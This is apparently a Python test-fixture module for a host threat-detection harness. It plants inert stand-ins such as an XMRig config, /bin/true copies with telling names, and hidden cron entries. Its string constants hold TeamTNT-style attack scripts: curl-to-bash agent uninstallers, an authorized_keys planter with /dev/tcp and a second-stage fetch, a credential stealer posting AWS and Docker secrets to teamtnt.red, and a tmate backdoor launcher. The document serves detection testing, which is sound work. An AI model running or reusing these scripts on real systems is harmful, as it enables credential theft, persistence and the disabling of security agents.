"""Malware and tooling artifacts on disk (THREAT-MAP: impact, defense evasion, credential access,
C2, reconnaissance): harmless stand-ins — text that looks like a miner config or a dropper, copies
of /bin/true with telling names. Nothing here is executable malware and nothing is ever run."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

from tests.harness.hostroot import Plant, write

# Text shaped like an XMRig config.json (the pool host is a reserved .invalid name).
XMRIG_CONFIG = """{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 100},
    "randomx": {"init": -1, "mode": "auto", "1gb-pages": false},
    "pools": [
        {
            "algo": "rx/0",
            "url": "stratum+tcp://pool.fixture.invalid:3333",
            "user": "4FixtureWalletNotReal",
            "pass": "x",
            "keepalive": true,
            "tls": false
        }
    ]
}
"""

# A dropper that only *mentions* what TeamTNT-style scripts do (the hosts are .invalid).
DROPPER = """#!/bin/bash
# fixture: shaped like a cloud-mining dropper; never executed
export HISTFILE=/dev/null
pkill -f kinsing
pkill -f kdevtmpfsi
pkill -f kthreaddi
ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9

if ps aux | grep -i '[a]liyun'; then
  curl http://update.aegis.fixture.invalid/download/uninstall.sh | bash
  wget -q -O /tmp/aliyun.sh http://update.aegis.fixture.invalid/download/quartz_uninstall.sh
  bash /tmp/aliyun.sh
  pkill aliyun-service
  rm -rf /usr/local/aegis
fi
if [ -d /usr/local/qcloud/stargate ]; then
  /usr/local/qcloud/stargate/admin/uninstall.sh
  /usr/local/qcloud/YunJing/uninst.sh
  rm -rf /usr/local/qcloud
fi
"""

KEY_DROPPER = """#!/bin/sh
# fixture: plants a key and fetches a next stage (hosts are .invalid); never executed
__curl() {
  read proto server path <<< "${1//// }"
  exec 3<>/dev/tcp/${server}/80
}
chattr -ia /root/.ssh/authorized_keys
chattr -i /root/.ssh
echo "ssh-rsa AAAAFixtureNotAKey fixture@planted.invalid" >> /root/.ssh/authorized_keys
curl -sLk http://stage2.fixture.invalid/s.sh || wget -q -O- http://stage2.fixture.invalid/s.sh | sh
history -c
"""

# Reads credentials and posts them to a domain from the IOC list (text only; never executed).
CRED_STEALER = """#!/bin/bash
# fixture: shaped like a cloud credential stealer; never executed
OUT=/tmp/.c
cat ~/.aws/credentials > $OUT 2>/dev/null
cat ~/.docker/config.json >> $OUT 2>/dev/null
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> $OUT
curl -F "userfile=@$OUT" https://teamtnt.red/upload.php
rm -f $OUT
"""

TMATE_SCRIPT = """#!/bin/bash
# fixture: shaped like a tmate backdoor launcher; never executed
tmate -S /tmp/.tm.sock new-session -d
tmate -S /tmp/.tm.sock wait tmate-ready
tmate -S /tmp/.tm.sock display -p '#{tmate_ssh}' > /tmp/.tm.out
"""


def _true_binary(root: Path, inner: str) -> None:
    """A copy of this machine's /bin/true at `inner`: an ELF with a telling name, harmless."""
    target = root / inner.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(shutil.which("true") or "/bin/true", target)
    target.chmod(0o755)


def _elf_with_strings(root: Path, inner: str, text: bytes) -> None:
    """/bin/true followed by strings a rule looks for (an ELF image that only carries the words)."""
    _true_binary(root, inner)
    with open(root / inner.lstrip("/"), "ab") as handle:
        handle.write(b"\x00" + text + b"\x00")


def plant_xmrig_config(root: Path) -> None:
    write(root, "/root/.configs/config.json", XMRIG_CONFIG, 0o600)


def plant_dockerd_in_tmp(root: Path) -> None:
    _true_binary(root, "/tmp/.dockerd")


def plant_kworker_binary(root: Path) -> None:
    _true_binary(root, "/var/tmp/.x/kworker")


def plant_hidden_sshd_in_root(root: Path) -> None:
    _true_binary(root, "/root/.sshd")


def plant_dropper(root: Path) -> None:
    write(root, "/tmp/.ICE-unix/init.sh", DROPPER, 0o755)


def plant_key_dropper(root: Path) -> None:
    write(root, "/var/tmp/setup.sh", KEY_DROPPER, 0o755)


def plant_cred_stealer(root: Path) -> None:
    write(root, "/dev/shm/.s/grab.sh", CRED_STEALER, 0o755)


def plant_aegis_leftover(root: Path) -> None:
    (root / "usr/local/aegis/aegis_client/aegis_11_25").mkdir(parents=True, exist_ok=True)
    (root / "usr/local/aegis/aegis_update").mkdir(parents=True, exist_ok=True)
    write(root, "/usr/local/aegis/aegis_client/aegis_11_25/conf/client.conf", "# fixture leftover\n")


def plant_masked_ssm_agent(root: Path) -> None:
    _true_binary(root, "/usr/bin/amazon-ssm-agent")
    unit = root / "etc/systemd/system/amazon-ssm-agent.service"
    unit.parent.mkdir(parents=True, exist_ok=True)
    os.symlink("/dev/null", unit)


def plant_tmate_script(root: Path) -> None:
    write(root, "/tmp/t.sh", TMATE_SCRIPT, 0o755)


def plant_miner_binary(root: Path) -> None:
    _elf_with_strings(root, "/usr/local/bin/sysupdate",
                      b"XMRig/%s libuv/%s\x00--donate-level\x00rx/0 randomx\x00stratum+tcp://")


def plant_irc_bot(root: Path) -> None:
    _elf_with_strings(root, "/tmp/.b/bot", b"NOTICE %s :\x00PRIVMSG %s :\x00NICK %s\x00JOIN %s\x00"
                      b"TSUNAMI\x00PAN\x00KILLALL\x00GETSPOOFS\x00")


def plant_masscan(root: Path) -> None:
    _elf_with_strings(root, "/root/.m/scan", b"masscan\x00--max-rate\x00--banners\x00--excludefile\x00")


def plant_pool_url_in_cron(root: Path) -> None:
    write(root, "/etc/cron.d/.sysupdate", "*/5 * * * * root /tmp/.x/sysupdate -o stratum+ssl://pool.fixture.invalid:443\n")


PLANTS = [
    Plant("xmrig-config", plant_xmrig_config, ("host.malware.xmrig_config",),
          "an XMRig-style config.json in /root/.configs"),
    Plant("dockerd-in-tmp", plant_dockerd_in_tmp, ("host.disguise.system_name_in_temp",),
          "an ELF (copy of /bin/true) named .dockerd in /tmp"),
    Plant("kworker-binary", plant_kworker_binary, ("host.disguise.kernel_thread_named_file",),
          "an ELF named kworker in a hidden folder of /var/tmp"),
    Plant("hidden-sshd", plant_hidden_sshd_in_root, ("host.disguise.hidden_system_named_binary",),
          "an ELF named .sshd in /root"),
    Plant("agent-uninstall-dropper", plant_dropper,
          ("host.agent.uninstall_script", "host.malware.competing_miner_killer"),
          "a dropper that uninstalls the Alibaba/Tencent agents and kills competing miners (text)"),
    Plant("key-dropper", plant_key_dropper, ("host.malware.teamtnt_dropper",),
          "a dropper that unlocks and writes authorized_keys and downloads with fallbacks (text)"),
    Plant("credential-stealer", plant_cred_stealer, ("host.credtheft.stealer_script", "host.malware.ioc_reference"),
          "a script that reads ~/.aws/credentials and IMDS and posts to an IOC domain (text)"),
    Plant("aegis-leftover", plant_aegis_leftover, ("host.agent.removed_security_agent",),
          "the Aegis install directory left with its binaries removed"),
    Plant("ssm-agent-masked", plant_masked_ssm_agent, ("host.agent.masked_security_agent",),
          "the AWS SSM agent's unit masked to /dev/null"),
    Plant("tmate-launcher", plant_tmate_script, ("host.tooling.tmate_session",),
          "a script that starts a detached tmate session and reads its join string (text)"),
    Plant("miner-binary", plant_miner_binary, ("host.malware.miner_binary",),
          "an ELF in /usr/local/bin carrying XMRig's strings"),
    Plant("irc-bot", plant_irc_bot, ("host.malware.irc_bot",),
          "an ELF carrying Kaiten/Tsunami IRC bot strings in a hidden /tmp folder"),
    Plant("masscan-dropped", plant_masscan, ("host.tooling.network_scanner",),
          "an ELF carrying masscan's strings in a hidden folder of /root"),
    Plant("pool-url-in-cron", plant_pool_url_in_cron, ("host.malware.stratum_pool_url",),
          "a hidden cron file that starts a miner with a stratum pool URL"),
]
